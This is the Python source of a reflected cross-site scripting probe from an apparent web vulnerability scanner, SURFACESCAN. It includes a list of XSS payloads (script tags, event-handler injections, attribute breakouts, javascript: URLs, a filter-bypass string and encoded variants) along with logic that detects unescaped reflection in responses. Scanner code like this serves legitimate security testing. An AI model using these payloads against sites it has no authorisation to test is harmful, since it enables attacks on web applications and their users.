"""
SURFACESCAN - Cross-Site Scripting Probe

Reflected XSS detection. A payload counts only when it comes back unescaped
in a context where a browser would execute it.
"""

import html
import re
from typing import Optional
from urllib.parse import unquote

from surfacescan.attacks.base import Baseline, Payload, Signature, VulnerabilityProbe
from surfacescan.core.models import ModuleKind, Severity
from surfacescan.utils.http import HTTPResponse


# An injected tag that survives unescaped, even when the rest of the payload is filtered
_FRAGMENT_RE = re.compile(r"<[a-z][^>]*>", re.IGNORECASE)
_JS_URL_ATTR_RE = re.compile(
    r"""(?:href|src|action|data|formaction)\s*=\s*["']?\s*javascript:""",
    re.IGNORECASE,
)


class XSSProbe(VulnerabilityProbe):
    """Reflected XSS probe."""

    kind = ModuleKind.XSS
    name = "Cross-Site Scripting"
    description = "Injects script payloads and checks for unescaped reflection"

    DEFAULT_PARAMETERS = (("q", "test"),)
    SIZE_CHANGE_THRESHOLD = 0.5

    EXECUTABLE_CONFIDENCE = 0.95
    ATTRIBUTE_CONFIDENCE = 0.9
    JS_URL_CONFIDENCE = 0.85
    PARTIAL_CONFIDENCE = 0.8

    PAYLOADS = (
        Payload("<script>alert(1)</script>", "script_tag", Severity.CRITICAL),
        Payload("<script>alert(document.domain)</script>", "script_tag", Severity.CRITICAL),
        Payload("<img src=x onerror=alert(1)>", "event_handler", Severity.CRITICAL),
        Payload("<svg onload=alert(1)>", "svg_event", Severity.CRITICAL),
        Payload("<body onload=alert(1)>", "body_event", Severity.HIGH),
        Payload("<input onfocus=alert(1) autofocus>", "input_event", Severity.HIGH),
        Payload('"><script>alert(1)</script>', "attribute_break", Severity.CRITICAL),
        Payload("'><script>alert(1)</script>", "attribute_break", Severity.CRITICAL),
        Payload('"><img src=x onerror=alert(1)>', "attribute_break", Severity.CRITICAL),
        Payload("' onmouseover='alert(1)", "attribute_injection", Severity.HIGH),
        Payload('" onmouseover="alert(1)', "attribute_injection", Severity.HIGH),
        Payload("javascript:alert(1)", "javascript_url", Severity.HIGH),
        Payload('<iframe src="javascript:alert(1)">', "iframe_injection", Severity.CRITICAL),
        Payload("<details open ontoggle=alert(1)>", "details_event", Severity.MEDIUM),
        Payload("<scr<script>ipt>alert(1)</scr</script>ipt>", "filter_bypass", Severity.HIGH),
        Payload("<svg/onload=alert(1)>", "svg_event", Severity.CRITICAL),
        Payload("%3Cscript%3Ealert(1)%3C/script%3E", "url_encoded", Severity.HIGH),
        Payload("&#60;script&#62;alert(1)&#60;/script&#62;", "html_encoded", Severity.HIGH),
    )

    def match_signature(
        self,
        payload: Payload,
        response: HTTPResponse,
        baseline: Optional[Baseline],
    ) -> Optional[Signature]:
        body = response.body
        lower = body.lower()
        baseline_lower = baseline.body.lower() if baseline else ""

        for form in _dangerous_forms(payload.value):
            needle = form.lower()
            index = lower.find(needle)
            if index < 0 or needle in baseline_lower:
                continue

            evidence = body[max(0, index - 150):index + len(form) + 150]

            if needle.startswith("javascript:"):
                # Only dangerous inside a URL-bearing attribute
                if _JS_URL_ATTR_RE.search(body):
                    return Signature("javascript: URL reflected in attribute", self.JS_URL_CONFIDENCE, evidence)
                continue
            if "<" in needle:
                return Signature("Payload reflected unescaped in HTML", self.EXECUTABLE_CONFIDENCE, evidence)
            return Signature("Payload breaks out of attribute value", self.ATTRIBUTE_CONFIDENCE, evidence)

        for fragment in _FRAGMENT_RE.findall(payload.value):
            needle = fragment.lower()
            if needle in lower and needle not in baseline_lower:
                index = lower.find(needle)
                return Signature(
                    f"Partial reflection: {fragment}",
                    self.PARTIAL_CONFIDENCE,
                    body[max(0, index - 100):index + 200],
                )

        return None


def _dangerous_forms(value: str) -> list[str]:
    """The raw payload plus decoded variants that a browser would execute."""
    forms = []
    for form in (value, unquote(value), html.unescape(value)):
        if form in forms:
            continue
        if "<" in form or form.lower().startswith("javascript:") or re.search(r"on[a-z]+\s*=", form, re.IGNORECASE):
            forms.append(form)
    return forms
